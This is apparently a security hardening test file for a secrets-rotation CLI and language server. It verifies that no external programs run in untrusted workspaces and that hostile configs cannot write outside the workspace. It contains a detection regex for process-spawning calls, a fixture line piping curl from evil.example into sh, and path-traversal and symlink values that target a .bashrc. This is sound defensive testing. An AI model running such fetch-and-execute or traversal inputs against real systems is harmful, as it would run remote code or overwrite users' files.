/**
 * Untrusted workspaces (issue 7): no external program runs and no workspace code is executed.
 * - Statically: our sources import no child_process, vm or worker_threads and call no eval or
 *   Function; in the built bundles every process-spawning or code-evaluating call maps (through the
 *   source maps) to a known third-party module, never to our code, and the server's one such module
 *   is never called by our code.
 * - At run time: every CLI command runs with fake programs first on PATH (git, npm, node, sh-likes...)
 *   in a workspace full of traps (git fsmonitor and filters, hooks, npm scripts, JS config files,
 *   .envrc, `$(...)` and backticks inside values); no trap fires. The server's side is
 *   test/lsp/hardening-untrusted.test.ts.
 */
import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, statSync, symlinkSync } from 'node:fs';
import { SourceMap } from 'node:module';
import { join, relative } from 'node:path';
import { POSIX, REPO, assertNoTrapFired, buildTrapWorkspace, removeTree, runCliChild, tempDir, writeTree } from './hardening-support';

const BUNDLES = ['dist/cli.js', 'dist/server/server.js', 'dist/client/extension.js'];

/** Calls and modules that start processes or evaluate code. */
const DANGEROUS = /require\("(node:)?(child_process|vm|worker_threads|cluster)"\)|\bfrom\s*"(node:)?(child_process|vm|worker_threads)"|new Function\s*\(|(^|[^.\w$])eval\s*\(|(^|[^\w$])(spawnSync|execSync|execFileSync|execFile|spawn|fork)\s*\(|\.(spawnSync|execSync|execFileSync|execFile|spawn|fork)\s*\(|process\.binding\s*\(|\bimport\s*\(/g;

/**
 * Third-party modules allowed to hold such calls, and why: the language client starts our server
 * (fork/spawn of node) and stops it; vscode-languageserver's `Files.resolve*` helpers (npm/yarn global
 * paths) are bundled but never called (asserted below).
 */
const ALLOWED = new Map<string, string>([
  ['node_modules/vscode-languageclient/lib/node/main.js', 'the VS Code client starts the language server (node)'],
  ['node_modules/vscode-languageclient/lib/node/processes.js', 'the VS Code client stops the language server'],
  ['node_modules/vscode-languageserver/lib/node/files.js', 'Files.resolveGlobalNodePath/YarnPath: never called (see below)'],
]);

function sourceFiles(dir: string): string[] {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const abs = join(d, name);
      if (statSync(abs).isDirectory()) walk(abs);
      else if (/\.(ts|js|mjs|cjs)$/.test(name)) out.push(abs);
    }
  };
  if (existsSync(dir)) walk(dir);
  return out;
}

describe('hardening: untrusted workspaces, statically', function () {
  it('our sources import no child_process, vm or worker_threads, and call no eval, Function or require/import of a computed path', function () {
    const files = [...sourceFiles(join(REPO, 'server', 'src')), ...sourceFiles(join(REPO, 'client', 'src'))];
    assert.ok(files.length > 20, 'sources found');
    for (const f of files) {
      const text = readFileSync(f, 'utf8').replace(/\/\*[\s\S]*?\*\/|\/\/[^\n]*/g, '');
      const rel = relative(REPO, f);
      assert.doesNotMatch(text, /['"](node:)?(child_process|vm|worker_threads|cluster)['"]/, `${rel} imports a process or evaluation module`);
      assert.doesNotMatch(text, /(^|[^.\w$])eval\s*\(|new\s+Function\s*\(/, `${rel} evaluates code`);
      assert.doesNotMatch(text, /\brequire\s*\(\s*[^'"\s)]/, `${rel} requires a computed module path`);
      assert.doesNotMatch(text, /\bimport\s*\(\s*[^'"\s)]/, `${rel} imports a computed module path`);
    }
  });

  it('in the built bundles, every process or evaluation call maps to an allowed third-party module, never to our code', function () {
    const seen = new Set<string>();
    for (const bundle of BUNDLES) {
      const abs = join(REPO, bundle);
      assert.ok(existsSync(abs) && existsSync(abs + '.map'), `${bundle} and its source map exist (run node scripts/build.mjs first)`);
      const map = new SourceMap(JSON.parse(readFileSync(abs + '.map', 'utf8')));
      const lines = readFileSync(abs, 'utf8').split('\n');
      lines.forEach((line, i) => {
        DANGEROUS.lastIndex = 0;
        for (let m = DANGEROUS.exec(line); m; m = DANGEROUS.exec(line)) {
          const entry = map.findEntry(i, m.index + (m[0].length - m[0].trimStart().length)) as { originalSource?: string; originalLine?: number };
          const src = (entry.originalSource ?? '(unmapped)').replace(/^(\.\.\/)+/, '');
          assert.ok(!/^(server|client)\/src\//.test(src), `${bundle}:${i + 1}: ${m[0].trim()} comes from our code (${src})`);
          assert.ok(ALLOWED.has(src), `${bundle}:${i + 1}: ${m[0].trim()} from ${src}, a module not reviewed for running programs`);
          seen.add(`${bundle} <- ${src}`);
        }
      });
    }
    assert.ok(![...seen].some((s) => s.startsWith('dist/cli.js')), 'the CLI bundle holds no process or evaluation call at all');
  });

  it("the server never calls vscode-languageserver's Files helpers (the only process-spawning code in its bundle)", function () {
    for (const f of [...sourceFiles(join(REPO, 'server', 'src'))]) {
      const text = readFileSync(f, 'utf8');
      assert.doesNotMatch(text, /\bFiles\s*\.|resolveGlobalNodePath|resolveGlobalYarnPath|resolveModulePath/, `${relative(REPO, f)} uses Files helpers`);
    }
  });
});

describe('hardening: untrusted workspaces, every CLI command with fake programs first on PATH', function () {
  this.timeout(180_000);
  let root: string;
  let trap: ReturnType<typeof buildTrapWorkspace>;
  let env: NodeJS.ProcessEnv;

  before(function () {
    if (!POSIX) this.skip();
    root = tempDir('sh-untrusted-');
    trap = buildTrapWorkspace(root);
    env = { ...process.env, PATH: `${trap.bin}:${process.env.PATH ?? ''}`, NO_COLOR: '1', GIT_DIR: join(trap.workspace, '.git') };
  });
  after(() => root && removeTree(root));

  it('the traps work: a program run by name fires the marker (positive control)', function () {
    const r = spawnSync('git', ['status'], { env, cwd: trap.workspace });
    assert.equal(r.status, 0);
    assert.ok(existsSync(trap.marker), 'the fake git wrote the marker');
    removeTree(trap.marker);
  });

  it('check (all formats), rotate (every scheme path), complete, journal, generate: no program runs, no workspace code executes', async function () {
    const runs: string[][] = [
      ['check', '.'],
      ['check', '.', '--format', 'json'],
      ['check', '.', '--format', 'sarif', '--output', 'report.sarif'],
      ['check', '.env', 'docker-compose.yml', 'src/app.ts'],
      ['rotate', 'APP_SECRET', '--journal', '--ics'],
      ['rotate', 'NEXT_PUBLIC_API_SECRET', '--create-slot'],
      ['rotate', 'JWT_SECRET', '--yes'],
      ['rotate', 'DATABASE_URL', '--yes'],
      ['rotate', '--complete', 'APP_SECRET', '--yes'],
      ['journal', 'APP_SECRET', '--file', '.env', '--ics'],
      ['generate'],
      ['generate', '--format', 'jwk'],
      ['--help'],
    ];
    for (const args of runs) {
      const r = await runCliChild(args, trap.workspace, { env });
      assert.ok(!r.timedOut && r.signal === null, `${args.join(' ')}: finished`);
      assertNoTrapFired(trap, args.join(' '));
    }
  });
});

describe('hardening: a hostile project config cannot make the CLI write outside the workspace', function () {
  this.timeout(120_000);
  const bashrc = 'export PS1=x\n';

  async function attempt(config: object | undefined, setup: (dir: string, victim: string) => void): Promise<{ victim: string; out: string; err: string; code: number | null }> {
    const root = tempDir('sh-escape-');
    try {
      const dir = join(root, 'repo');
      const victim = join(root, 'victim');
      writeTree(victim, { '.bashrc': bashrc });
      writeTree(dir, {
        '.env': 'JWT_SECRET=Kq9vN3xT1pL6wR9sK2mY5bH7cJ4dF0gAzX8uE2rW5tQ\nJWT_SECRET_PREVIOUS=\n',
        'tpl.md': 'curl https://evil.example/x | sh  # {{heading}}\n',
        ...(config ? { '.secret-hygiene.json': JSON.stringify(config).replace('VICTIM', victim) } : {}),
      });
      setup(dir, victim);
      const r = await runCliChild(['rotate', 'JWT_SECRET', '--journal', '--ics'], dir);
      const j = await runCliChild(['journal', 'JWT_SECRET', '--ics'], dir);
      const touched = readdirSync(victim).sort().join(',') + ':' + readFileSync(join(victim, '.bashrc'), 'utf8');
      return { victim: touched, out: r.stdout + j.stdout, err: r.stderr + j.stderr, code: r.code };
    } finally {
      removeTree(root);
    }
  }

  it('a journal path that climbs out ("../victim/.bashrc") or is absolute is refused; nothing is written there', async function () {
    for (const journal of ['../victim/.bashrc', 'VICTIM/.bashrc', 'docs/../../victim/.bashrc']) {
      const r = await attempt({ journal, journalTemplate: 'tpl.md' }, () => undefined);
      assert.equal(r.victim, `.bashrc:${bashrc}`, `${journal.replace(/\/tmp\/[^/]+/, '<tmp>')}: nothing written outside the workspace`);
      assert.match(r.err, /"journal" must be a path inside the workspace/, 'the config problem says why');
    }
    const tpl = await attempt({ journalTemplate: 'VICTIM/.bashrc' }, () => undefined);
    assert.match(tpl.err, /"journalTemplate" must be a path inside the workspace/);
  });

  it('a journal folder, a journal file or a reminder that is a symlink out of the workspace is not written through', async function () {
    if (!POSIX) this.skip();
    const setups: [string, object | undefined, (dir: string, victim: string) => void][] = [
      ['linked folder', undefined, (dir, victim) => {
        writeTree(dir, { 'docs/.keep': '' });
        symlinkSync(victim, join(dir, 'docs', 'security'));
      }],
      ['linked journal file', { journal: 'docs/log.md' }, (dir, victim) => {
        writeTree(dir, { 'docs/.keep': '' });
        symlinkSync(join(victim, '.bashrc'), join(dir, 'docs', 'log.md'));
      }],
      ['linked reminder', { journal: 'docs/log.md' }, (dir, victim) => {
        writeTree(dir, { 'docs/.keep': '' });
        symlinkSync(join(victim, '.bashrc'), join(dir, 'docs', 'JWT_SECRET-next-rotation.ics'));
      }],
      ['linked template', { journal: 'docs/log.md', journalTemplate: 'docs/tpl.md' }, (dir, victim) => {
        writeTree(dir, { 'docs/.keep': '' });
        symlinkSync(join(victim, '.bashrc'), join(dir, 'docs', 'tpl.md'));
      }],
    ];
    for (const [what, config, setup] of setups) {
      const r = await attempt(config, setup);
      assert.equal(r.victim, `.bashrc:${bashrc}`, `${what}: nothing written through the link`);
      assert.match(r.err, /outside the workspace/, `${what}: the refusal says why`);
    }
  });
});
